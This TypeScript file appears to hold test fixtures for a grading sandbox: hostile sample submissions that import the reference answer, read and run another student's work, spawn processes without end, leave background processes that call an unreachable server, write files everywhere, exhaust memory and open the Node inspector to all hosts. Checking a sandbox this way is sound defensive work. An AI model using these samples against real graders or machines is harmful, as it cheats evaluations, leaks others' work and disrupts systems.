/** What an attack may look for, and what tells that it has got it. */
export type Targets = {
  /** Right answers: the kit's own, and another student's. */
  readonly reference: string;
  readonly neighbour: string;
  /** A folder in which nothing may change. */
  readonly folder: string;
  /** A server that nobody may reach. */
  readonly url: string;
  /** Stands in the command line of every process that is started. */
  readonly mark: string;
};

/** Answers that want what lies around them. Each is the text of an answer; none of them asks politely. */
export const attacksOnTheSandbox: Readonly<Record<string, (targets: Targets) => string>> = {
  "imports the reference": ({ reference }) =>
    `export const { askPolitely } = await import(String(${quoted(reference)}));`,
  "reads another student's work, and runs it": ({ neighbour }) => `
    import { readFileSync } from "node:fs";
    const text = readFileSync(${quoted(neighbour)}, "utf8");
    export const { askPolitely } = await import(String("data:text/javascript," + encodeURIComponent(text)));`,
  "lists all that lies around it": ({ folder }) => `
    import { readdirSync } from "node:fs";
    const found = readdirSync(${quoted(folder)}, { recursive: true });
    export const askPolitely = async () => found;`,
  "starts processes without end": ({ mark }) => `
    import { spawn } from "node:child_process";
    export const askPolitely = () => {
      for (;;) spawn(process.execPath, ["-e", "setInterval(() => {}, 1e6)", ${quoted(mark)}], { detached: true }).on("error", () => {});
    };`,
  "leaves a process behind that works on": ({ mark, folder, url }) => {
    const work = `setInterval(() => { fetch(${quoted(url)}).catch(() => {}); require("node:fs").appendFileSync(${quoted(`${folder}/left.txt`)}, "1"); }, 20);`;
    return `
      import { spawn } from "node:child_process";
      spawn(process.execPath, ["-e", ${quoted(work)}, ${quoted(mark)}], { detached: true, stdio: "ignore" }).unref();
      export const askPolitely = () => new Promise(() => setInterval(() => {}, 1_000));`;
  },
  "writes wherever it can": ({ folder }) => `
    import { appendFileSync } from "node:fs";
    import os from "node:os";
    for (const place of [${quoted(folder)}, os.tmpdir(), os.homedir(), ".", "/", "/dev/shm", "/var/tmp"])
      try { appendFileSync(place + "/hostile.txt", "1"); } catch {}
    export const askPolitely = async () => {};`,
  "fills memory with typed arrays, and never lets go": () => `
    export const askPolitely = () => { for (const all = []; ;) all.push(new Uint8Array(50_000_000).fill(1)); };`,
  "wants all the memory at once": () => `
    export const askPolitely = async () => new Uint8Array(8_000_000_000).fill(1).length;`,
  "shares memory with nobody": () => `
    const all = [];
    export const askPolitely = () => { for (;;) all.push(new Uint8Array(new SharedArrayBuffer(50_000_000)).fill(1)); };`,
  "grows a WebAssembly memory": () => `
    const all = [];
    export const askPolitely = () => {
      for (;;) all.push(new Uint8Array(new WebAssembly.Memory({ initial: 1_000 }).buffer).fill(1));
    };`,
  "calls a server by a program of its own": ({ url, mark }) => `
    import { execFileSync } from "node:child_process";
    const body = execFileSync(process.execPath, ["-e", ${quoted(`fetch("${url}").then((r) => r.text()).then(console.log)`)}, ${quoted(mark)}]);
    export const askPolitely = async () => JSON.parse(body);`,
  "opens the inspector, and waits for somebody": () => `
    import inspector from "node:inspector";
    inspector.open(0, "0.0.0.0", true);
    export const askPolitely = async () => {};`,
};

const quoted = (text: string) => JSON.stringify(text);
